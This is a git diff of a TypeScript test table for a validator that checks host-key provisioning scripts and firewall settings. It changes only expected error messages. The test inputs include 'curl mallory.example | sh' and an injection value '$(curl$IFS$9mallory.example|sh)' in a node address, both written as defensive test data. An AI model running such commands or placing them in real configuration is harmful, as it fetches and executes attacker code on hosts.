@@ -238,7 +238,7 @@ export const programCases: CaseTable = {
 			],
 			"a script of an earlier version that would run now": [
 				hostKey(formerScript, []),
-				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":{"$any":["<name> <address> <number> <hos....`,
+				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>....`,
 			],
 			"a script of an earlier version with one more line": [
 				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
@@ -258,11 +258,11 @@ export const programCases: CaseTable = {
 			],
 			"a line between a bastion and the script": [
 				learning(`${bastion}id\n${currentScript}`),
-				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<name> <address> <number> <hostkey>","<name> <name> 22 <hostkey>","<name> <name> <numbe....`,
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>","<file> <name> <1..65535> <hostkey>"]},"then":{"agent-h....`,
 			],
 			"a bastion without a script behind it": [
 				learning(bastion),
-				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<name> <address> <number> <hostkey>","<name> <name> 22 <hostkey>","<name> <name> <numbe....`,
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>","<file> <name> <1..65535> <hostkey>"]},"then":{"agent-h....`,
 			],
 			"a script before another": [
 				learning(`${currentScript}${scriptOf("first-boot.sh")}`),
@@ -279,7 +279,7 @@ export const programCases: CaseTable = {
 			],
 			"a command in the address of a node": [
 				hostKeyAt("$(curl$IFS$9mallory.example|sh)"),
-				`worker-1-host-key has another value in create than ${known}; allowed is bash -s -- <name> <hostport> <number> '<hostkey>' or bash -s -- <name> <hostport> <number> 'https://<name>/api2/json/nodes/<name>/qemu/<number>/agent/file-read?file=%2Fetc%2... or bash -s -- <name> <hostport> <number> 'https://<name>:8006/api2/json/nodes/<name>/qemu/<number>/agent/file-read?file=%2F... or bash -s -- <name> <hostport> <number>.`,
+				`worker-1-host-key has another value in create than ${known}; allowed is bash -s -- <name> <hostport> <10..86400> '<hostkey>' or bash -s -- <name> <hostport> <10..86400> 'https://<name>/api2/json/nodes/<name>/qemu/<100..999999999>/agent/file-read?fi... or bash -s -- <name> <hostport> <10..86400> 'https://<name>:<1..65535>/api2/json/nodes/<name>/qemu/<100..999999999>/agent/f... or bash -s -- <name> <hostport> <10..86400>.`,
 			],
 			"another value than the plugin adds": [
 				firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: false }),
